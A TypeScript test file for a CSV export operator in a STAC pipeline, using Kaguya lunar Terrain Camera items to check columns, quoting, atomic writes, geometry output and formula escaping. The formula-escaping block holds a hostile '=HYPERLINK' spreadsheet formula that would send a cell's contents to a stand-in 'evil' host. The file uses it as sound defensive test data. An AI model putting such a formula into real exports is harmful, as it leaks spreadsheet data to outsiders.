import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import wkxModule from 'wkx';
import { parse as parseYaml } from 'yaml';
import { z } from 'zod';
import { newEntry, withFailure, withFields, type Entry, type StacItem } from '../../src/entry.js';
import { csv, csvOptions } from '../../operators/csv.js';
import { testContext } from '../helpers/context.js';

const loadItem = (id: string): StacItem =>
  JSON.parse(readFileSync(new URL(`../fixtures/usgs/stac/item_kaguya_tc_monoscopic_${id}.json`, import.meta.url), 'utf8'));

const COLLECTION = 'kaguya_terrain_camera_monoscopic_uncontrolled_observations';
const BASE = 'https://astrogeo-ard.s3-us-west-2.amazonaws.com/moon/kaguya/terrain_camera/monoscopic/uncontrolled';
/** The seven asset hrefs of a real Kaguya TC item, in the item's order. */
const hrefs = (id: string) =>
  [`${id}.jpg`, `${id}.tif`, 'provenance.txt', `${id}.isis.lbl`, `${id}.lbl`, `${id}.caminfo.pvl`, `${id}.isd.json`].map((f) => `${BASE}/${id}/${f}`);
const ASSET_HEADER = 'asset:thumbnail,asset:image,asset:provenance,asset:isis_label,asset:pds_label,asset:caminfo_pvl,asset:usgscsm_isd';

/** A stand-in for the label document fetch_label adds: an object field, so not a default column. */
const caminfo = { get: () => undefined };
// Entries as they reach the outputs of the tutorial's pipeline (IncidenceAngle from the real caminfo.pvl files).
const a = withFields(newEntry(loadItem('TC1S2B0_01_07495N079E3030')), { caminfo, incidence_angle: 62.64846899183, gsd: 7.4 });
const b = withFields(newEntry(loadItem('TC1S2B0_01_07496N087E3020')), { caminfo, incidence_angle: 62.548768944137, gsd: 7.6508919736877 });
const failed = withFailure(newEntry(loadItem('TC1S2B0_01_07496N183E3021')), {
  stage: 'fetch_label',
  code: 'ERR_HTTP',
  message: 'HTTP 404 for caminfo_pvl, retry later',
});

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'stacflow-csv-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

async function writeAll(options: unknown, entries: Entry[], ctx = testContext('csv')) {
  const sink = await csv.create(csvOptions.parse(options), ctx);
  for (const entry of entries) await sink.write(entry);
  return sink.finish();
}

describe('csv', () => {
  it('writes id, collection, datetime, selected fields, asset hrefs and failures by default', async () => {
    const path = join(dir, 'out', 'kaguya-tc.csv');
    const result = await writeAll({ path }, [a, failed, b]);
    expect(result).toEqual({ path, rows: 3 });
    expect(readFileSync(path, 'utf8')).toBe(
      [
        `id,collection,datetime,incidence_angle,gsd,${ASSET_HEADER},failed`,
        ['TC1S2B0_01_07495N079E3030', COLLECTION, '2009-06-07T12:50:47.869268Z', '62.64846899183', '7.4', ...hrefs('TC1S2B0_01_07495N079E3030'), ''].join(','),
        ['TC1S2B0_01_07496N183E3021', COLLECTION, '2009-06-07T14:39:50.302762Z', '', '', ...hrefs('TC1S2B0_01_07496N183E3021'), '"fetch_label: HTTP 404 for caminfo_pvl, retry later"'].join(','),
        ['TC1S2B0_01_07496N087E3020', COLLECTION, '2009-06-07T14:42:56.305175Z', '62.548768944137', '7.6508919736877', ...hrefs('TC1S2B0_01_07496N087E3020'), ''].join(','),
        '',
      ].join('\n'),
    );
  });

  it('takes the default columns from the first entry that did not fail, keeping the stream order', async () => {
    const path = join(dir, 'held.csv');
    await writeAll({ path, include_failed: true }, [failed, a]);
    const lines = readFileSync(path, 'utf8').split('\n');
    expect(lines[0]).toBe(`id,collection,datetime,incidence_angle,gsd,${ASSET_HEADER},failed`);
    expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['TC1S2B0_01_07496N183E3021', 'TC1S2B0_01_07495N079E3030', '']);
  });

  it('writes the columns it is given, in order', async () => {
    const path = join(dir, 'columns.csv');
    await writeAll({ path, columns: ['id', { incidence: 'incidence_angle' }, 'assets.image.href', 'proj:epsg', 'bbox'] }, [b]);
    expect(readFileSync(path, 'utf8')).toBe(
      'id,incidence,assets.image.href,proj:epsg,bbox_xmin,bbox_ymin,bbox_xmax,bbox_ymax,failed\n' +
        `TC1S2B0_01_07496N087E3020,62.548768944137,${hrefs('TC1S2B0_01_07496N087E3020')[1]},,` +
        '-58.43763459881944,7.947806083257045,-57.60349294854092,9.510025967556274,\n',
    );
  });

  it('quotes values with commas, quotes and line breaks', async () => {
    const path = join(dir, 'quoting.csv');
    const odd = withFields(a, { note: 'dusty, "bright"\nlimb' });
    await writeAll({ path, columns: ['id', 'note'], include_failed: false }, [odd]);
    expect(readFileSync(path, 'utf8')).toBe('id,note\nTC1S2B0_01_07495N079E3030,"dusty, ""bright""\nlimb"\n');
  });

  it('leaves failed entries out with include_failed: false, and counts them', async () => {
    const path = join(dir, 'ok-only.csv');
    const ctx = testContext('csv');
    const result = await writeAll({ path, columns: ['id'], include_failed: false }, [a, failed, b], ctx);
    expect(result.rows).toBe(2);
    expect(readFileSync(path, 'utf8')).toBe('id\nTC1S2B0_01_07495N079E3030\nTC1S2B0_01_07496N087E3020\n');
    expect(ctx.stats.stage('csv').counters).toEqual({ failed_left_out: 1 });
  });

  it('uses start_datetime when datetime is null', async () => {
    const path = join(dir, 'range.csv');
    const range = newEntry({ ...a.item, properties: { ...a.item.properties, datetime: null, start_datetime: '2009-06-07T12:50:00Z' } });
    await writeAll({ path, include_failed: false }, [range]);
    expect(readFileSync(path, 'utf8').split('\n')[1].split(',')[2]).toBe('2009-06-07T12:50:00Z');
  });

  it('writes a header alone when no entry arrives', async () => {
    const path = join(dir, 'empty.csv');
    expect(await writeAll({ path }, [])).toEqual({ path, rows: 0 });
    expect(readFileSync(path, 'utf8')).toBe('id,collection,datetime,failed\n');
  });

  it('shows nothing under the final name before finish', async () => {
    const path = join(dir, 'late.csv');
    const sink = await csv.create(csvOptions.parse({ path }), testContext('csv'));
    await sink.write(a);
    await sink.write(b);
    expect(existsSync(path)).toBe(false);
    expect(existsSync(`${path}.tmp-${process.pid}`)).toBe(true);
    await sink.finish();
    expect(existsSync(path)).toBe(true);
    expect(existsSync(`${path}.tmp-${process.pid}`)).toBe(false);
  });

  it('leaves an earlier file untouched when aborted', async () => {
    const path = join(dir, 'kept.csv');
    writeFileSync(path, 'id\nfrom-yesterday\n');
    const sink = await csv.create(csvOptions.parse({ path }), testContext('csv'));
    await sink.write(a);
    await sink.abort();
    expect(readFileSync(path, 'utf8')).toBe('id\nfrom-yesterday\n');
    expect(existsSync(`${path}.tmp-${process.pid}`)).toBe(false);
  });
});

describe('csv options', () => {
  it('parse the documented example', () => {
    const yaml = parseYaml(csv.example) as { csv: unknown };
    expect(csvOptions.parse(yaml.csv)).toEqual({
      path: 'out/kaguya-tc.csv',
      columns: ['id', 'datetime', { incidence: 'incidence_angle' }, 'gsd', 'assets.image.href'],
      include_failed: true,
      mode: 'snapshot',
      escape_formulas: true,
    });
  });

  it('need a path', () => {
    expect(csvOptions.safeParse({}).error?.issues).toMatchObject([{ path: ['path'] }]);
  });

  it('reject an invalid column path, saying where', () => {
    const result = csvOptions.safeParse({ path: 'x.csv', columns: ['id', 'assets..href'] });
    expect(result.error?.issues).toMatchObject([
      { path: ['columns', 1], message: "invalid field path 'assets..href': expected a name, found '.' at column 8" },
    ]);
  });

  it('have a JSON Schema', () => {
    expect(z.toJSONSchema(csvOptions, { io: 'input' })).toMatchObject({ type: 'object', required: ['path'] });
  });
});

describe('csv: formula injection and values that cannot be written', () => {
  const plain = (id: string, properties: Record<string, unknown> = {}): StacItem => ({ type: 'Feature', id, collection: 'c', geometry: null, properties, assets: {} });
  const hostile = withFields(newEntry(plain('=HYPERLINK("http://evil/?x="&A1,"click")')), { lon: -12.5, note: '-12.5', at: '@SUM(A1)', plus: '+1', tab: '\tx', cr: '\rx' });

  it('escapes text cells beginning with =, +, -, @, tab or CR with a quote, never numbers (escape_formulas, the default)', async () => {
    const path = join(dir, 'escaped.csv');
    await writeAll({ path, columns: ['id', 'lon', 'note', 'at', 'plus', 'tab', 'cr'] }, [hostile]);
    const [, row] = readFileSync(path, 'utf8').split('\n');
    expect(row).toBe(`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-12.5,'-12.5,'@SUM(A1),'+1,'\tx,"'\rx",`);
  });

  it('writes every cell as it is with escape_formulas: false', async () => {
    const path = join(dir, 'raw.csv');
    await writeAll({ path, columns: ['id', 'lon', 'note', 'at'], escape_formulas: false }, [hostile]);
    const [, row] = readFileSync(path, 'utf8').split('\n');
    expect(row).toBe('"=HYPERLINK(""http://evil/?x=""&A1,""click"")",-12.5,-12.5,@SUM(A1),');
  });

  it('a value nested too deep for JSON fails its entry (ERR_CSV_CELL, the cell empty), and every row is written', async () => {
    let deep: unknown = 1;
    for (let i = 0; i < 200_000; i += 1) deep = [deep];
    const entries = [newEntry(plain('before')), withFields(newEntry(plain('deep')), { nested: deep }), newEntry(plain('after'))];
    const ctx = testContext('csv');
    const path = join(dir, 'deep.csv');
    const result = await writeAll({ path, columns: ['id', 'nested'] }, entries, ctx);
    expect(result.rows).toBe(3);
    const lines = readFileSync(path, 'utf8').trim().split('\n');
    expect(lines[0]).toBe('id,nested,failed');
    expect(lines[1]).toBe('before,,');
    expect(lines[2]).toMatch(/^deep,,csv: column nested: the value cannot be written as text \(Maximum call stack size exceeded\)/);
    expect(lines[3]).toBe('after,,');
    expect(ctx.stats.failures).toMatchObject([{ item: 'deep', stage: 'csv', code: 'ERR_CSV_CELL' }]);
  });
});

describe('csv: geometry for GIS tools', () => {
  const wkx = wkxModule;
  const rowsOf = (file: string) => parseCsv(readFileSync(file, 'utf8'), { columns: true }) as Array<Record<string, string>>;

  it('writes `geometry` as WKT (read back by wkx to the item geometry) and `bbox` as four number columns', async () => {
    const path = join(dir, 'footprints.csv');
    await writeAll({ path, columns: ['id', 'geometry', 'bbox'] }, [a, b]);
    const text = readFileSync(path, 'utf8');
    expect(text.split('\n')[0]).toBe('id,geometry,bbox_xmin,bbox_ymin,bbox_xmax,bbox_ymax,failed');
    const rows = rowsOf(path);
    for (const [row, entry] of [[rows[0], a], [rows[1], b]] as const) {
      expect(row.geometry).toMatch(/^POLYGON \(\(/);
      expect(wkx.Geometry.parse(row.geometry).toGeoJSON()).toEqual(entry.item.geometry);
      expect([row.bbox_xmin, row.bbox_ymin, row.bbox_xmax, row.bbox_ymax].map(Number)).toEqual(entry.item.bbox);
    }
  });

  it('names them after a mapping, writes a null geometry and a missing bbox as empty cells, a 3D bbox as its 2D extent', async () => {
    const path = join(dir, 'named.csv');
    const plain = (id: string, extra: Partial<StacItem>): StacItem => ({ type: 'Feature', id, geometry: null, properties: {}, assets: {}, ...extra });
    const entries = [
      newEntry(plain('none', {})),
      newEntry(plain('cube', { geometry: { type: 'Point', coordinates: [1, 2, 3] }, bbox: [1, 2, 3, 1, 2, 3] })),
    ];
    await writeAll({ path, columns: ['id', { footprint: 'geometry' }, { extent: 'bbox' }], include_failed: false }, entries);
    expect(readFileSync(path, 'utf8')).toBe('id,footprint,extent_xmin,extent_ymin,extent_xmax,extent_ymax\nnone,,,,,\ncube,POINT Z (1 2 3),1,2,1,2\n');
  });

  it('adds geometry and bbox to the default columns with `geometry: true`, and only then', async () => {
    const path = join(dir, 'defaults.csv');
    await writeAll({ path, geometry: true }, [a]);
    expect(readFileSync(path, 'utf8').split('\n')[0]).toBe(
      `id,collection,datetime,incidence_angle,gsd,${ASSET_HEADER},geometry,bbox_xmin,bbox_ymin,bbox_xmax,bbox_ymax,failed`,
    );
    expect(wkx.Geometry.parse(rowsOf(path)[0].geometry).toGeoJSON()).toEqual(a.item.geometry);
  });

  it('refuse `geometry: true` beside `columns`, saying what to write instead', () => {
    expect(csvOptions.safeParse({ path: 'x.csv', columns: ['id'], geometry: true }).error?.issues).toMatchObject([
      { path: ['geometry'], message: 'geometry: true adds to the default columns; with `columns`, name geometry and bbox among them instead' },
    ]);
  });

  it('fails an entry whose geometry is no GeoJSON (ERR_GEOMETRY), its cell empty, and writes every row', async () => {
    const path = join(dir, 'bad-geometry.csv');
    const bad = newEntry({ ...a.item, id: 'bad', geometry: { type: 'Polygon', coordinates: [[1, 2]] } });
    const ctx = testContext('csv');
    const result = await writeAll({ path, columns: ['id', 'geometry'] }, [bad, b], ctx);
    expect(result.rows).toBe(2);
    const rows = rowsOf(path);
    expect(rows[0]).toEqual({ id: 'bad', geometry: '', failed: 'csv: geometry.coordinates[0][0]: expected an array' });
    expect(rows[1].failed).toBe('');
    expect(ctx.stats.failures).toMatchObject([{ item: 'bad', stage: 'csv', code: 'ERR_GEOMETRY' }]);
  });
});
